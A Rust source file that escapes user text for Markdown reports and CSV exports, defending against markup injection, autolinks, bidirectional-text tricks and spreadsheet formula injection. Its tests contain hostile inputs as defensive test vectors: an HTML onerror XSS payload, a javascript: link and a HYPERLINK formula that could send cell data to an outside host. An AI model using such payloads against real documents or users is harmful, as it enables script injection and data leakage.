//! The one writer of user text into the exported formats: Markdown (the proposal, the
//! announcement, the reports) and CSV (candidates, the evaluation). Whatever a user typed comes
//! out as text, never as structure: no heading, list, table cell, link, image or HTML in
//! Markdown, and no formula in a spreadsheet.

use std::fmt;

/// User text inside Markdown, written with `{}`: `Md(&case.exchange.name)`.
///
/// Every character Markdown (CommonMark, GitHub's tables, inline HTML) gives a meaning to is
/// backslash-escaped, and line breaks and other control characters become spaces, so the text
/// stays on its line. Every CommonMark renderer shows the escaped characters as themselves
/// (tests/reports.rs reads every report back).
pub struct Md<'a>(pub &'a str);

impl fmt::Display for Md<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        use fmt::Write;
        for (i, c) in self.0.char_indices() {
            let rest = &self.0[i..];
            // GitHub's autolinks need no brackets: `http://`, `www.` and `a@b.c` are broken up.
            let autolink = (c == ':' && rest.starts_with("://"))
                || c == '@'
                || (c == '.'
                    && self.0[..i]
                        .get(i.saturating_sub(3)..)
                        .is_some_and(|w| w.eq_ignore_ascii_case("www")));
            if autolink {
                f.write_char('\\')?;
                f.write_char(c)?;
                continue;
            }
            // An underscore between two letters or digits (`gate_io`, `not_started`) can neither
            // open nor close emphasis in CommonMark: it stays as it is, for people reading the
            // file itself.
            let inside_word = c == '_'
                && self.0[..i]
                    .bytes()
                    .next_back()
                    .is_some_and(|b| b.is_ascii_alphanumeric())
                && rest
                    .as_bytes()
                    .get(1)
                    .is_some_and(|b| b.is_ascii_alphanumeric());
            if inside_word {
                f.write_char(c)?;
                continue;
            }
            match c {
                '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '!' | '#' => {
                    f.write_char('\\')?;
                    f.write_char(c)?;
                }
                c if breaks_line(c) => f.write_char(' ')?,
                c => f.write_char(c)?,
            }
        }
        Ok(())
    }
}

/// Spreadsheets run a cell that starts with one of these as a formula (OWASP, "CSV Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text` is quotes followed by a formula's first character: the texts that get (or
/// got) a neutralizing quote.
fn formula_like(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(FORMULA_START.as_slice())
}

/// One CSV field of user text: a text a spreadsheet would run as a formula gets a leading `'`
/// (OWASP's advice; spreadsheets show the text), then the field is quoted when it must be
/// (RFC 4180). `csv_text` reads it back exactly.
pub fn csv_field(text: &str) -> String {
    let text = if formula_like(text) {
        format!("'{text}")
    } else {
        text.to_string()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// A CSV field's user text as `csv_field` wrote it: the neutralizing quote removed. A quote
/// is only ever added before quotes and a formula's first character, so removing one there
/// gives back what was written, also for a name that itself starts with a quote.
pub fn csv_text(field: &str) -> &str {
    match field.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => field,
    }
}

/// A character that would break a line of text: a control character or a line or paragraph
/// separator. Names, labels and sources are one line (validate's rule); reports write these as
/// spaces.
pub fn breaks_line(c: char) -> bool {
    c.is_control() || c == '\u{2028}' || c == '\u{2029}'
}

/// `text` made one line: characters that break a line become spaces, the ends trimmed, at most
/// `max` characters; bidirectional controls are dropped, so a quote cannot reverse the sentence
/// around it.
pub fn one_line(text: &str, max: usize) -> String {
    let spaced: String = text
        .trim()
        .chars()
        .filter(|c| !is_bidi_control(*c))
        .take(max)
        .map(|c| if breaks_line(c) { ' ' } else { c })
        .collect();
    spaced.trim().to_string()
}

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quote_on_one_line_cannot_turn_the_sentence_around() {
        assert_eq!(one_line("a\u{202e}bc\u{2066}d\u{200f}", 40), "abcd");
        assert_eq!(one_line("x\ny", 40), "x y");
    }

    #[test]
    fn markdown_text_stays_text() {
        assert_eq!(
            Md("<img src=x onerror=alert(1)>").to_string(),
            "\\<img src=x onerror=alert(1)\\>"
        );
        assert_eq!(
            Md("[t](javascript:alert(1))").to_string(),
            "\\[t\\](javascript:alert(1))"
        );
        assert_eq!(Md("A\n# B\r\n| c |").to_string(), "A \\# B  \\| c \\|");
        assert_eq!(
            Md("**x** `y` _z_ ~w~ &amp;").to_string(),
            "\\*\\*x\\*\\* \\`y\\` \\_z\\_ \\~w\\~ \\&amp;"
        );
        assert_eq!(Md("Binance.US, 2-day").to_string(), "Binance.US, 2-day");
        assert_eq!(
            Md("gate_io _a b_ c__d not_").to_string(),
            "gate_io \\_a b\\_ c\\_\\_d not\\_"
        );
        assert_eq!(
            Md("http://x.example/?a= www.y.org a@b.c").to_string(),
            "http\\://x.example/?a= www\\.y.org a\\@b.c"
        );
    }

    #[test]
    fn formulas_are_neutralized_and_read_back() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://x/?\"&B2,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Click\"\")\""
        );
        for (text, field) in [
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("Ana", "Ana"),
            ("O'Neil", "O'Neil"),
            ("'quoted", "'quoted"),
            ("'=x", "''=x"),
        ] {
            assert_eq!(csv_field(text), field, "{text:?}");
        }
        for text in ["=1", "'=1", "''=1", "'", "''", "Ana", "'Ana", "-", "'-"] {
            let field = csv_field(text);
            let unquoted = field
                .strip_prefix('"')
                .and_then(|f| f.strip_suffix('"'))
                .map_or(field.clone(), |f| f.replace("\"\"", "\""));
            assert_eq!(csv_text(&unquoted), text, "{field:?}");
        }
    }
}
